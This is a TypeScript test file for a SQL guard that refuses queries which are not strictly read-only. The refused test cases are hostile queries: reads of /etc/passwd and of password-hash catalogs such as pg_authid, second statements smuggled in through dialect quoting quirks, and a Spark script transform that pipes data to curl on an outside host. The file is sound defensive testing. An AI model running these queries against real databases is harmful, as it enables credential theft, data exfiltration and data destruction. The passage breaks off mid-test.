import { describe, expect, it } from "vitest";
import { countingPredicate, inspectReadOnlySql, mayReturnClassifiedValue, replaceInCode } from "./sql-guard.js";

describe("read-only SQL guard", () => {
  it.each([
    ["SELECT count(*) FROM orders"],
    ["select count(*) from orders where status = 'lost';"],
    ["  (SELECT 1)  "],
    ["WITH t AS (SELECT * FROM {object}) SELECT count(*) FROM t WHERE {property} IS NULL"],
    ["SELECT count(*) FROM ${table} WHERE ${column} IS NULL"],
    ["SELECT count(*) FROM orders WHERE note = 'DROP TABLE x; DELETE FROM y'"],
    ['SELECT count(*) FROM orders WHERE "delete" = 1 AND "update" IS NULL'],
    ["SELECT count(*) FROM orders -- then DROP TABLE orders;\n"],
    // Lines ended by \r\n (a file saved on Windows); a comment Spark carries on over its backslash, hiding nothing.
    ["SELECT count(*) -- rows\r\nFROM orders -- note\r\n"],
    ["SELECT count(*) FROM orders -- C:\\temp\\\n-- more\nWHERE amount > 0"],
    // A raw string (Spark, BigQuery) holding a backslash.
    ["SELECT count(*) FROM orders WHERE code RLIKE r'^\\d+$' AND note <> 'it''s'"],
    ["SELECT /* INSERT; UPDATE */ count(*) FROM orders"],
    ["SELECT count(*) FROM orders WHERE code ~ '^\\d+$'"],
    ["SELECT bool_and(amount >= 0) FROM orders;;"],
    ["SELECT count(*) FROM orders WHERE settled_at IS NULL AND reset_count > 0"],
    ["SELECT `set` FROM t"],
    // Names that only look like refused ones, and refused names inside strings.
    ["SELECT count(*) FROM orders WHERE note = 'pg_authid query_to_xml(' AND settings_count > 0"],
    ["SELECT count(*) FROM my_query_to_xml_log"],
    // Names such functions have, where they are no call.
    ["SELECT count(*) FROM orders WHERE enable_logging AND checkpoint > 0 AND disable_reason <> 'x'"],
    // Serializing a query's parse tree runs nothing; only the functions that run it are refused.
    ["SELECT length(json_serialize_sql('SELECT 1')) > 0"],
    ["SELECT count(*) FROM orders WHERE json_execute_serialized_sql_count = 0"],
    ["SELECT count(*) FROM orders WHERE u & 1 = 1"],
    // A data file's extension elsewhere than in a table's name: a column, a join's condition, a string.
    ["SELECT count(*) FROM orders o JOIN exports e ON o.csv = e.json WHERE o.file = 'a.csv'"],
    ["SELECT count(*) FROM csv_imports, jsonl"],
    // An extension-like part in the middle of a qualified name is a catalog or a schema, which DuckDB reads as no file.
    ["SELECT count(*) FROM warehouse.db.orders"],
    ['SELECT count(*) FROM orders o JOIN "raw"."json"."events" e ON o.id = e.id'],
    // `IS [NOT] DISTINCT FROM` compares with a string; no table follows that FROM.
    ["SELECT count(*) FROM orders WHERE status IS DISTINCT FROM 'closed' OR note IS NOT DISTINCT FROM '/tmp/x'"],
    // Strings and @ operators elsewhere than where a table goes.
    ["SELECT count(*) FROM orders o JOIN lines l ON o.id = l.order_id, refunds r WHERE o.tags @> '{a}' AND r.note = 'x/y'"],
    ['SELECT count(*) FROM "sales"."orders" WHERE path LIKE \'/data/%\' AND "km/h" > 0'],
    // A contract's own tables named like the warehouses' query histories, unqualified; columns named like refused functions.
    ["SELECT count(*) FROM jobs j JOIN queries q ON j.id = q.job_id WHERE j.secret IS NULL AND q.http_request <> ''"],
    ["SELECT count(*) FROM sales.jobs, `proj.sales.queries` WHERE runtime > 0"],
    ["SELECT count(*) FROM security.login_history l JOIN access_history a ON a.user_id = l.user_id, query_history q"],
    ["SELECT count(*) FROM information_schema.columns WHERE table_name = 'orders'"],
    ["SELECT count(*) FROM history h JOIN sales.audit a ON a.id = h.id, query q"],
    // USING without a script: a join's columns, DuckDB's sample, an ordering operator; Spark's transform function of arrays.
    ["SELECT count(*) FROM orders JOIN lines USING (order_id) WHERE cardinality(transform(tags, t -> upper(t))) > 0"],
    ["SELECT count(*) FROM orders USING SAMPLE 10%"],
    // Columns, tables and schemas named like the model functions and their schemas, where they are no call.
    ["SELECT count(*) FROM ml.predictions p JOIN cortex c ON p.id = c.id WHERE p.ai_score > 0.5 AND c.ai_flag AND ai = 1"],
    ["SELECT count(*) FROM orders o WHERE o.ml_label = 'x' AND upper(o.complete) = 'Y' AND main.generate_text_len(o.note) > 0"],
    ["SELECT count(*) FROM (SELECT amount FROM orders ORDER BY amount USING < LIMIT 3) t"],
  ])("accepts %j", (sql) => {
    expect(inspectReadOnlySql(sql)).toEqual({ readOnly: true });
  });

  it.each([
    ["SELECT count(*) FROM '/etc/passwd'", "reads a file named as a table (FROM '/etc/passwd')"],
    ["SELECT count(*) FROM orders JOIN 'secrets.csv' s ON true", "reads a file named as a table (JOIN 'secrets.csv')"],
    ["SELECT count(*) FROM orders, 'other.parquet'", "reads a file named as a table (, 'other.parquet')"],
    ["SELECT count(*) FROM (SELECT 1 FROM orders WHERE x IN (1)) t, '/etc/passwd'", "reads a file named as a table (, '/etc/passwd')"],
    ["SELECT count(*) FROM text.`/etc/passwd`", "names a file path (`/etc/passwd`) as a table"],
    ['SELECT count(*) FROM "/etc/passwd"', "names a file path (`/etc/passwd`) as a table"],
    // DuckDB reads a table it does not have as a file when its name has a data file's extension.
    ['SELECT count(*) FROM "notes.csv"', "names a file (`notes.csv`) as a table"],
    ["SELECT count(*) FROM other.csv", "names a file (`other.csv`) as a table"],
    ["SELECT count(*) FROM orders o JOIN backup.Parquet b ON o.id = b.id", "names a file (`backup.Parquet`) as a table"],
    ['SELECT count(*) FROM orders, "x.csv?"', "names a file (`x.csv?`) as a table"],
    ['SELECT count(*) FROM main."people.json.gz"', "names a file (`main.people.json.gz`) as a table"],
    ['SELECT count(*) FROM "book.xlsx"', "names a file (`book.xlsx`) as a table"],
    ['SELECT count(*) FROM "notes.csv.gz"', "names a file (`notes.csv.gz`) as a table"],
    // DuckDB's statements that take a table read a file named there as FROM does.
    ['SELECT count(*) FROM (SUMMARIZE "notes.csv")', "names a file (`notes.csv`) as a table"],
    ['SELECT count(*) FROM (PIVOT other.parquet ON a)', "names a file (`other.parquet`) as a table"],
    ["SELECT count(*) FROM (UNPIVOT '/etc/passwd' ON COLUMNS(*))", "reads a file named as a table (UNPIVOT '/etc/passwd')"],
    ['SELECT count(*) FROM (DESCRIBE "x.json")', "names a file (`x.json`) as a table"],
    ['SELECT count(*) FROM (TABLE "x.csv")', "names a file (`x.csv`) as a table"],
    // A quoted path there too, where no FROM list is (Spark's `TABLE` is a query of its own).
    ["SELECT count(*) FROM (TABLE text.`/etc/passwd`)", "names a file path (`/etc/passwd`) as a table"],
    ["SELECT 1 UNION ALL TABLE text.`/etc/passwd`", "names a file path (`/etc/passwd`) as a table"],
    ['SELECT count(*) FROM (SUMMARIZE "/etc/passwd")', "names a file path (`/etc/passwd`) as a table"],
    ["SELECT count(*) FROM (SELECT 1 UNION DISTINCT FROM '/etc/passwd')", "reads a file named as a table (FROM '/etc/passwd')"],
    ["SELECT count($1) FROM @~/secrets/", "reads a stage (FROM @…), not a table"],
  ])("refuses a file or stage where a table goes: %j", (sql, reason) => {
    const inspection = inspectReadOnlySql(sql);
    expect(inspection.readOnly).toBe(false);
    expect(inspection.readOnly === false && inspection.reason).toContain(reason);
  });

  it.each([
    ["", "is empty"],
    ["-- only a comment", "is empty"],
    ["DELETE FROM orders", "not one starting with `DELETE`"],
    ["DROP TABLE orders", "not one starting with `DROP`"],
    ["INSERT INTO orders VALUES (1)", "not one starting with `INSERT`"],
    ["UPDATE orders SET amount = 0", "not one starting with `UPDATE`"],
    ["TRUNCATE orders", "not one starting with `TRUNCATE`"],
    ["ALTER TABLE orders ADD COLUMN x INT", "not one starting with `ALTER`"],
    ["CREATE TABLE x AS SELECT 1", "not one starting with `CREATE`"],
    ["COPY orders TO '/tmp/out.csv'", "not one starting with `COPY`"],
    ["COPY (SELECT 1) TO '/tmp/out.csv'", "not one starting with `COPY`"],
    ["ATTACH 'other.duckdb' AS other", "not one starting with `ATTACH`"],
    ["INSTALL httpfs", "not one starting with `INSTALL`"],
    ["LOAD httpfs", "not one starting with `LOAD`"],
    ["PRAGMA database_list", "not one starting with `PRAGMA`"],
    ["SET enable_external_access = true", "not one starting with `SET`"],
    ["CALL pragma_version()", "not one starting with `CALL`"],
    ["EXPLAIN ANALYZE SELECT 1", "not one starting with `EXPLAIN`"],
    ["VALUES (1)", "not one starting with `VALUES`"],
    ["SELECT 1; DROP TABLE orders", "more than one statement"],
    ["SELECT 1; SELECT 2", "more than one statement"],
    ["SELECT 1;\nDELETE FROM orders;", "more than one statement"],
    ["WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone", "uses `DELETE`"],
    ["WITH x AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1", "uses `INSERT`"],
    ["SELECT * INTO backup FROM orders", "uses `INTO`"],
    // Row locks: PostgreSQL takes them outside a read-only transaction (emitted SQL); the query updates nothing.
    ["SELECT * FROM orders FOR UPDATE", "locks rows (`FOR UPDATE`)"],
    ["SELECT count(*) FROM (SELECT * FROM orders FOR NO KEY UPDATE NOWAIT) x", "locks rows (`FOR NO KEY UPDATE`)"],
    ["SELECT count(*) FROM (SELECT * FROM orders FOR SHARE) x", "locks rows (`FOR SHARE`)"],
    ["SELECT count(*) FROM (SELECT * FROM orders for key share of orders skip locked) x", "locks rows (`FOR KEY SHARE`)"],
    ["SELECT nextval('seq')", "calls `nextval()`"],
    ["SELECT pg_sleep(100)", "calls `pg_sleep()`"],
    ["SELECT pg_catalog.pg_read_file('/etc/passwd')", "calls `pg_read_file()`"],
    ['SELECT "pg_sleep"(1)', "calls `pg_sleep()`"],
    ["SELECT set_config('role', 'admin', false)", "calls `set_config()`"],
    ["SELECT count(*) FROM read_csv('/etc/passwd')", "calls `read_csv()`"],
    ["SELECT count(*) FROM read_parquet('s3://bucket/x.parquet')", "calls `read_parquet()`"],
    ["SELECT * FROM query('DROP TABLE orders')", "calls `query()`"],
    ["SELECT * FROM glob('/home/*')", "calls `glob()`"],
    ["SELECT count(*) FROM sniff_csv('.git/config')", "calls `sniff_csv()`"],
    // DuckDB's session and database switches spelt as table functions: a file log aborted the whole run.
    ["SELECT count(*) FROM enable_logging(storage = 'file', storage_path = '/tmp/logs')", "calls `enable_logging()`"],
    ["SELECT count(*) FROM Disable_Profiling()", "calls `Disable_Profiling()`"],
    ["SELECT count(*) FROM main.checkpoint()", "calls `checkpoint()`"],
    ["SELECT count(*) FROM force_checkpoint()", "calls `force_checkpoint()`"],
    ["SELECT count(*) FROM truncate_duckdb_logs()", "calls `truncate_duckdb_logs()`"],
    ["SELECT count(*) FROM parquet_metadata('x.parquet')", "calls `parquet_metadata()`"],
    ["SELECT * FROM dblink('host=x', 'DELETE FROM t')", "calls `dblink()`"],
    ["SELECT reflect('java.lang.Runtime', 'getRuntime')", "calls `reflect()`"],
    ["SELECT SYSTEM$WAIT(10)", "calls `SYSTEM$WAIT()`"],
    // PostgreSQL functions that run SQL given as text: the guard never sees that text.
    ["SELECT query_to_xml('delete from t', true, true, '')", "calls `query_to_xml()`"],
    ["SELECT QUERY_TO_XML('delete from t', true, true, '')", "calls `QUERY_TO_XML()`"],
    ['SELECT "query_to_xml"(\'delete from t\', true, true, \'\')', "calls `query_to_xml()`"],
    ["SELECT pg_catalog.query_to_xml('delete from t', true, true, '')", "calls `query_to_xml()`"],
    ['SELECT "pg_catalog"."query_to_xml" (\'delete from t\', true, true, \'\')', "calls `query_to_xml()`"],
    ["SELECT pg_catalog . query_to_xml /* x */ ('delete from t', true, true, '')", "calls `query_to_xml()`"],
    ["SELECT query_to_xml_and_xmlschema('delete from t', true, true, '')", "calls `query_to_xml_and_xmlschema()`"],
    ["SELECT query_to_xmlschema('select 1', true, true, '')", "calls `query_to_xmlschema()`"],
    ["SELECT cursor_to_xml('c', 1, true, true, '')", "calls `cursor_to_xml()`"],
    ["SELECT table_to_xml('orders', true, true, '')", "calls `table_to_xml()`"],
    ["SELECT schema_to_xml('public', true, true, '')", "calls `schema_to_xml()`"],
    ["SELECT database_to_xml(true, true, '')", "calls `database_to_xml()`"],
    ["SELECT ts_stat('delete from t')", "calls `ts_stat()`"],
    ["SELECT * FROM DBLINK_EXEC('host=x', 'DELETE FROM t')", "calls `DBLINK_EXEC()`"],
    ["SELECT Set_Config('role', 'admin', false)", "calls `Set_Config()`"],
    ["SELECT setval('seq', 1)", "calls `setval()`"],
    // Changes the session: random() in every later query of the run's one session follows the seed.
    ["SELECT count(*) FROM (SELECT setseed(0.5)) AS s", "calls `setseed()`"],
    ["SELECT pg_catalog.SetSeed(0.5) IS NULL", "calls `SetSeed()`"],
    ['SELECT "NEXTVAL"(\'seq\')', "calls `NEXTVAL()`"],
    ["SELECT lo_import('/etc/passwd')", "calls `lo_import()`"],
    ["SELECT current_setting('data_directory')", "calls `current_setting()`"],
    ["SELECT pg_catalog.current_setting('data_directory')", "calls `current_setting()`"],
    ['SELECT "CURRENT_SETTING"(\'data_directory\')', "calls `CURRENT_SETTING()`"],
    // DuckDB's functions that run SQL given as text, or as its serialized parse tree: the guard never reads that SQL.
    ["SELECT count(*) FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM duckdb_settings()'))", "calls `json_execute_serialized_sql()`"],
    ["SELECT count(*) FROM JSON_EXECUTE_SERIALIZED_SQL(json_serialize_sql('SELECT 1'))", "calls `JSON_EXECUTE_SERIALIZED_SQL()`"],
    ['SELECT count(*) FROM "json_execute_serialized_sql"(json_serialize_sql(\'SELECT 1\'))', "calls `json_execute_serialized_sql()`"],
    ["SELECT count(*) FROM system.main.json_execute_serialized_sql (json_serialize_sql('SELECT 1'))", "calls `json_execute_serialized_sql()`"],
    ['SELECT count(*) FROM "system"."main"."Json_Execute_Serialized_Sql" /* x */ (json_serialize_sql(\'SELECT 1\'))', "calls `Json_Execute_Serialized_Sql()`"],
    ["SELECT json_serialize_plan('SELECT current_setting(''threads'')', optimize := true)", "calls `json_serialize_plan()`"],
    ["SELECT length(('SELECT 1').json_serialize_plan())", "calls `json_serialize_plan()`"],
    ["SELECT * FROM query(json_deserialize_sql(json_serialize_sql('SELECT 42')))", "calls `query()`"],
    ['SELECT * FROM "QUERY"(\'SELECT 42\')', "calls `QUERY()`"],
    ["SELECT * FROM main.query_table('orders')", "calls `query_table()`"],
    ["SELECT * FROM sql_auto_complete('SELECT * FROM ''/etc/')", "calls `sql_auto_complete()`"],
    // PostgreSQL contrib (tablefunc, xml2) functions that run a query, or read a relation, named in their text.
    ["SELECT count(*) FROM crosstab('SELECT rolname::text, 1::text, rolpassword::text FROM pg_authid') AS ct(r text, p text)", "calls `crosstab()`"],
    ["SELECT count(*) FROM public.crosstab3('SELECT 1') AS ct(a text, b text, c text, d text)", "calls `crosstab3()`"],
    ["SELECT count(*) FROM connectby('pg_authid', 'rolname', 'rolpassword', 'admin', 0) AS t(k text, p text, l int)", "calls `connectby()`"],
    ["SELECT count(*) FROM xpath_table('rolname', 'rolpassword', 'pg_authid', '/x', 'true') AS t(k text, v text)", "calls `xpath_table()`"],
    // PostgreSQL's index maintenance functions, which write to the index inside a read-only transaction.
    ["SELECT brin_summarize_new_values('orders_brin')", "calls `brin_summarize_new_values()`"],
    ["SELECT count(*) FROM orders WHERE pg_catalog.Brin_Summarize_Range('orders_brin', 0) > 0", "calls `Brin_Summarize_Range()`"],
    ["SELECT count(*) FROM orders WHERE brin_desummarize_range('orders_brin', 0) IS NULL", "calls `brin_desummarize_range()`"],
    ['SELECT "gin_clean_pending_list"(\'orders_gin\')', "calls `gin_clean_pending_list()`"],
    // Contrib functions that rewrite a table's pages, or read a catalog's raw pages, named as text.
    ["SELECT count(*) FROM public.heap_force_kill('orders'::regclass, ARRAY['(0,1)'::tid])", "calls `heap_force_kill()`"],
    ["SELECT count(*) FROM HEAP_FORCE_FREEZE('orders'::regclass, ARRAY['(0,1)'::tid])", "calls `HEAP_FORCE_FREEZE()`"],
    ["SELECT count(*) FROM heap_page_items(\"get_raw_page\"('pg_' || 'authid', 0)) WHERE t_data IS NOT NULL", "calls `get_raw_page()`"],
    // Catalogs of password hashes and credentials, however the name is written.
    ["SELECT rolpassword FROM pg_authid WHERE rolname = 'admin'", "reads `pg_authid`"],
    ["SELECT count(*) FROM PG_AUTHID", "reads `PG_AUTHID`"],
    ['SELECT count(*) FROM pg_catalog."pg_authid"', "reads `pg_authid`"],
    ["SELECT passwd FROM pg_catalog.pg_shadow", "reads `pg_shadow`"],
    ["SELECT umoptions FROM pg_user_mapping", "reads `pg_user_mapping`"],
    ["SELECT umoptions FROM pg_user_mappings", "reads `pg_user_mappings`"],
    ["SELECT count(*) FROM information_schema.user_mapping_options", "reads `user_mapping_options`"],
    ["SELECT setting FROM pg_settings WHERE name = 'data_directory'", "reads `pg_settings`"],
    ["SELECT count(*) FROM pg_stat_statements WHERE CAST(query AS date) IS NULL", "reads `pg_stat_statements`"],
    ["WITH a AS (SELECT * FROM orders) SELECT count(*) FROM a, pg_shadow", "reads `pg_shadow`"],
    ["SELECT max(ascii(substr(subconninfo, 40, 1))) FROM pg_catalog.pg_subscription", "reads `pg_subscription`"],
    ["SELECT count(*) FROM pg_db_role_setting", "reads `pg_db_role_setting`"],
    // The planner's statistics: sampled values of every column (pg_authid's SCRAM verifiers, classified columns).
    ["SELECT ascii(substr(stavalues1::text, 2, 1)) FROM pg_statistic WHERE starelid = 1260 AND staattnum = 11", "reads `pg_statistic`"],
    ["SELECT ascii(substr(histogram_bounds::text, 2, 1)) FROM pg_catalog.pg_stats WHERE attname = 'rolpassword'", "reads `pg_stats`"],
    ['SELECT count(*) FROM "pg_statistic_ext_data"', "reads `pg_statistic_ext_data`"],
    // DuckDB's PRAGMAs as table functions and its table sample: a table's values, named in a string.
    ["SELECT max(ascii(substr(stats, 7, 1))) FROM pragma_storage_info('people') WHERE column_name = 'email'", "calls `pragma_storage_info()`"],
    ["SELECT count(*) FROM main.PRAGMA_TABLE_INFO('people')", "calls `PRAGMA_TABLE_INFO()`"],
    ["SELECT max(ascii(x)) FROM duckdb_table_sample('people') AS t(a, b, x)", "calls `duckdb_table_sample()`"],
    ["SELECT count(*) FROM pg_stats_ext", "reads `pg_stats_ext`"],
    ["SELECT count(*) FROM pg_stats_ext_exprs", "reads `pg_stats_ext_exprs`"],
    ["SELECT length(string_agg(encode(data, 'escape'), '')) FROM pg_largeobject", "reads `pg_largeobject`"],
    // A Unicode-escaped name is another spelling the server reads and the guard does not.
    ['SELECT U&"query\\005fto_xml"(\'delete from t\', true, true, \'\')', "Unicode-escaped"],
    ["SELECT count(*) FROM U&\"pg\\005fauthid\"", "Unicode-escaped"],
    ["SELECT u&'\\0061'", "Unicode-escaped"],
    ["SELECT 'unterminated", "unterminated string"],
    ['SELECT "unterminated', "unterminated quoted identifier"],
    ["SELECT 1 /* unterminated", "unterminated /* comment"],
    ["SELECT 1 /* outer /* inner */ ; DROP TABLE orders; /* */", "nested /* comment"],
    ["SELECT $$; DROP TABLE orders; $$", "dollar-quoted string"],
    ["SELECT $tag$ x $tag$", "dollar-quoted string"],
    // A tag of non-ASCII letters quotes too: here the `'` is inside the dollar strings, and pg_read_file runs.
    ["SELECT length($é$ ' $é$) * 0 + (SELECT length(pg_read_file($é$/etc/passwd$é$))) + length($é$ ' $é$) * 0", "dollar-quoted string"],
    ["SELECT $Ω_1$x$Ω_1$", "dollar-quoted string"],
    ["SELECT $name", "dollar-quoted string"],
    // PostgreSQL reads 'a\' as a complete string: the DROP below would run there.
    ["SELECT 'a\\'; DROP TABLE orders; --'", "more than one statement"],
    // BigQuery/Spark read \' as an escaped quote: there the strings pair up differently.
    ["SELECT 'a\\' AS x, ' ; DELETE FROM t; SELECT '", "unterminated string"],
    ["SELECT E'\\''; DROP TABLE x; --'", "more than one statement"],
    // Snowflake reads backslashes in '…' but not in "…", and Spark in '…' but not in `…`: under those mixed
    // readings the DELETE is a second statement, while both pure readings keep it inside a quote.
    ["SELECT \"a\\\" AS x, 'b\\'' ; DELETE FROM t ; -- ' -- \"", "more than one statement"],
    ["SELECT `a\\` AS x, 'b\\'' ; DELETE FROM t ; -- ' -- `", "more than one statement"],
    // BigQuery: a triple-quoted string, and `#` line comments.
    ["SELECT '''a'b''' ; DELETE FROM t ; -- '", "more than one statement"],
    ["SELECT 1 # '\n; DELETE FROM t; -- '", "more than one statement"],
    // Snowflake: `//` line comments.
    ["SELECT 1 // '\n; DELETE FROM t; -- '", "more than one statement"],
    // Spark: a backslash before the line break carries a `--` comment on to the next line, so the quote that
    // hides the DELETE from the other readings is in Spark's comment, and the DELETE runs there.
    ["SELECT count(*) FROM t -- c \\\n'\n; DELETE FROM x; SELECT 1 AS y --'", "more than one statement"],
    // PostgreSQL and DuckDB read backslash escapes in E'…' only: under that mixed reading pg_read_file is code,
    // and a second statement follows, while every single reading keeps them inside quotes.
    ["SELECT count(*) FROM t WHERE a = E'x\\'' OR b = '\\' OR length(pg_read_file('/etc/passwd')) > 0 OR c = ' -- '", "pg_read_file"],
    ["SELECT e'x\\'' AS a, '\\' ; DELETE FROM t ; -- ' -- '", "more than one statement"],
    // Spark's raw strings end at the next quote, its other strings read backslash escapes: under that mixed
    // reading the DELETE is a second statement, while every single reading keeps it inside a quote.
    ["SELECT count(*) FROM t WHERE a = 'x\\'' OR b = r'\\' ; DELETE FROM t ; -- ' -- '", "more than one statement"],
    ["SELECT count(*) FROM t WHERE a = \"x\\\"\" OR b = R\"\\\" ; DELETE FROM t ; -- \" -- \"", "more than one statement"],
    // PostgreSQL, DuckDB, Trino and Spark end a line comment at a carriage return: what follows it is code there.
    ["SELECT count(*) FROM t -- note\rWHERE length(pg_read_file('/etc/passwd')) > 0", "carriage return inside a line comment"],
    // The warehouses' query and login histories (every user's SQL text), as pg_stat_activity is PostgreSQL's.
    ["SELECT count(*) FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY()) WHERE query_text ILIKE '%password%'", "reads `INFORMATION_SCHEMA.QUERY_HISTORY`"],
    ["SELECT count(*) FROM TABLE(information_schema.query_history_by_user(USER_NAME => 'ADMIN'))", "reads `query_history_by_user`"],
    ["SELECT count(*) FROM snowflake.account_usage.query_history", "reads `account_usage.query_history`"],
    ["SELECT count(*) FROM SNOWFLAKE.ACCOUNT_USAGE.LOGIN_HISTORY", "reads `ACCOUNT_USAGE.LOGIN_HISTORY`"],
    ["SELECT count(*) FROM `region-us`.INFORMATION_SCHEMA.JOBS WHERE query LIKE '%key%'", "reads `INFORMATION_SCHEMA.JOBS`"],
    ["SELECT count(*) FROM `my-proj.region-us.INFORMATION_SCHEMA.JOBS`", "reads `INFORMATION_SCHEMA.JOBS`"],
    ["SELECT count(*) FROM `region-eu.INFORMATION_SCHEMA.JOBS_BY_PROJECT`", "reads `JOBS_BY_PROJECT`"],
    ["SELECT count(*) FROM region-us.INFORMATION_SCHEMA.jobs_by_user", "reads `jobs_by_user`"],
    ['SELECT count(*) FROM system.runtime.queries WHERE "query" LIKE \'%secret%\'', "reads `runtime.queries`"],
    ['SELECT count(*) FROM "system"."runtime"."queries"', "reads `runtime.queries`"],
    // The same histories of Snowflake's reader accounts and organization, and Databricks' system tables (Spark SQL there).
    ["SELECT count(*) FROM snowflake.reader_account_usage.query_history", "reads `reader_account_usage.query_history`"],
    ["SELECT count(*) FROM SNOWFLAKE.READER_ACCOUNT_USAGE.LOGIN_HISTORY", "reads `READER_ACCOUNT_USAGE.LOGIN_HISTORY`"],
    ["SELECT count(*) FROM snowflake.organization_usage.access_history", "reads `organization_usage.access_history`"],
    ["SELECT count(*) FROM system.query.history WHERE statement_text LIKE '%token%'", "reads `query.history`"],
    ["SELECT count(*) FROM `system`.`access`.`audit`", "reads `access.audit`"],
    // Snowflake's links to a stage's files and reads of earlier results; Databricks' secrets and outbound calls.
    ["SELECT count(*) FROM orders WHERE GET_PRESIGNED_URL(@exports, 'orders.csv') IS NOT NULL", "calls `GET_PRESIGNED_URL()`"],
    ["SELECT count(*) FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(-2)))", "calls `RESULT_SCAN()`"],
    ["SELECT length(secret('prod', 'db-password'))", "calls `secret()`"],
    ["SELECT count(*) FROM orders WHERE http_request(conn => 'hook', method => 'POST', path => email) IS NOT NULL", "calls `http_request()`"],
    ["SELECT count(*) FROM orders WHERE ai_query('endpoint', email) = 'spam'", "calls `ai_query()`"],
    // The warehouses' AI and ML functions, which send the values they are given to a model: Snowflake's Cortex and
    // AI_* functions, BigQuery's ML.* and AI.* functions, Databricks' ai_* functions besides ai_query.
    ["SELECT count(*) FROM orders WHERE SNOWFLAKE.CORTEX.COMPLETE('llama3-8b', email) ILIKE '%spam%'", "calls `CORTEX.COMPLETE()`"],
    ['SELECT count(*) FROM orders WHERE "SNOWFLAKE"."CORTEX"."SENTIMENT"(note) < 0', "calls `CORTEX.SENTIMENT()`"],
    ["SELECT count(*) FROM orders WHERE AI_COMPLETE('claude-3-5-sonnet', email) = 'x'", "calls `AI_COMPLETE()`"],
    ["SELECT count(*) FROM orders WHERE AI_FILTER(PROMPT('Is {0} spam?', note))", "calls `AI_FILTER()`"],
    ["SELECT count(*) FROM ML.GENERATE_TEXT(MODEL `proj.ds.gemini`, (SELECT email AS prompt FROM orders))", "calls `ML.GENERATE_TEXT()`"],
    ["SELECT count(*) FROM `ML.GENERATE_EMBEDDING`(MODEL m, TABLE orders)", "calls `ML.GENERATE_EMBEDDING()`"],
    ["SELECT countif(AI.GENERATE_BOOL(('Is this spam? ', note)).result) FROM orders", "calls `AI.GENERATE_BOOL()`"],
    ["SELECT count(*) FROM orders WHERE ai.generate(note).result = 'x'", "calls `ai.generate()`"],
    ["SELECT count(*) FROM orders WHERE ai_classify(note, array('spam', 'ham')) = 'spam'", "calls `ai_classify()`"],
    ["SELECT count(*) FROM orders WHERE ai_gen(concat('Summarize: ', note)) IS NULL", "calls `ai_gen()`"],
    // Spark's script transform runs a shell command on every executor, in a query that only reads.
    ["SELECT count(*) FROM (SELECT TRANSFORM(email) USING 'curl -d @- https://example.com/x' AS (out) FROM orders) t", "runs a script"],
    ['SELECT count(*) FROM (SELECT TRANSFORM(*) ROW FORMAT DELIMITED USING "sh -c id" FROM orders) t', "runs a script"],
    ["SELECT max(x) FROM (MAP email USING r'/bin/sh -c id' AS (x) FROM orders)", "runs a script"],
  ])("refuses %j", (sql, reason) => {
    const inspection = inspectReadOnlySql(sql);
    expect(inspection.readOnly).toBe(false);
    expect(inspection.readOnly === false && inspection.reason).toContain(reason);
  });
});

describe("rules that count rows matching a predicate, measured by the scan", () => {
  it.each([
    ["SELECT count(*) FROM {object} WHERE amount < 0", "amount < 0"],
    ["select COUNT( * ) from ${table}\n  where ${column} = 'N/A';\n", "${column} = 'N/A'"],
    ["SELECT count(*) FROM {object} WHERE (a > 1 OR b IN (1, 2)) AND note = 'x)('", "(a > 1 OR b IN (1, 2)) AND note = 'x)('"],
    ['SELECT count(*) FROM {table} WHERE "order" IS NULL', '"order" IS NULL'],
  ])("folds %j", (sql, predicate) => {
    expect(countingPredicate(sql)).toBe(predicate);
  });

  it.each([
    ["SELECT count(*) FROM orders WHERE amount < 0", "a table other than {object}"],
    ["SELECT count(*) FROM {object} o WHERE o.amount < 0", "an alias"],
    ["SELECT count(DISTINCT id) FROM {object} WHERE amount < 0", "another aggregate"],
    ["SELECT count(*) FROM {object}", "no predicate"],
    ["SELECT count(*) FROM {object} WHERE id IN (SELECT id FROM other)", "a subquery"],
    ["SELECT count(*) FROM {object} WHERE a > 0 GROUP BY b", "a further clause"],
    ["SELECT count(*) FROM {object} WHERE a > 0 -- note", "a comment that would swallow the rest of the scan"],
    ["SELECT count(*) FROM {object} WHERE a > 0 /* note */", "a block comment"],
    ["SELECT count(*) FROM {object} WHERE a > $1", "a parameter placeholder"],
    ["SELECT count(*) FROM {object} WHERE a > 0) OR (TRUE", "unbalanced parentheses"],
    ["SELECT count(*) FROM {object} WHERE note = 'it\\' OR 1 = 1 OR '' = ''", "parentheses or quotes read differently under backslash escapes"],
    ["SELECT count(*) FROM {object} WHERE a > 0; SELECT 1", "a second statement"],
    ["SELECT count(*) FROM {object} WHERE a > 0 # note", "a BigQuery comment"],
    ["SELECT count(*) FROM {object} WHERE a > 0 // note", "a Snowflake comment"],
  ])("leaves %j alone (%s)", (sql) => {
    expect(countingPredicate(sql)).toBeUndefined();
  });
});

describe("replacing text only where it is code", () => {
  const name = /\{name\}/g;
  const put = (sql: string) => replaceInCode(sql, name, () => "X");

  it("replaces in code, never in strings, quoted identifiers or comments", () => {
    expect(put("SELECT {name}, '{name}', \"{name}\", `{name}` FROM {name} -- {name}\nWHERE 1 /* {name} */")).toBe(
      "SELECT X, '{name}', \"{name}\", `{name}` FROM X -- {name}\nWHERE 1 /* {name} */",
    );
  });

  it("leaves text that is in a string or a comment under any engine's reading", () => {
    // Standard SQL reads `'a\'` as a string and `{name}` as code; Snowflake, Spark and BigQuery read one string up to `--'`.
    expect(put("SELECT 'a\\', {name} --', 'b'")).toBe("SELECT 'a\\', {name} --', 'b'");
    // BigQuery's `#` comments; Snowflake's `//` comments.
    expect(put("SELECT 1 # {name}\n, 2 // {name}\n, {name}")).toBe("SELECT 1 # {name}\n, 2 // {name}\n, X");
  });

  it("leaves text that does not tokenize unchanged", () => {
    expect(put("SELECT {name}, 'open")).toBe("SELECT {name}, 'open");
  });

  it("under one dialect's reading: code there is code, though another engine reads a comment or a string", () => {
    // DuckDB's `//` divides (Snowflake's comment); PostgreSQL's `#` is a bitwise xor (BigQuery's comment).
    const dividing = "SELECT count(*) // 2 FROM {name} WHERE x # 1 = 0 AND y IN (SELECT y FROM {name})";
    expect(replaceInCode(dividing, name, () => "X", "duckdb")).toBe("SELECT count(*) // 2 FROM X WHERE x # 1 = 0 AND y IN (SELECT y FROM X)");
    expect(replaceInCode(dividing, name, () => "X", "postgres")).toBe("SELECT count(*) // 2 FROM X WHERE x # 1 = 0 AND y IN (SELECT y FROM X)");
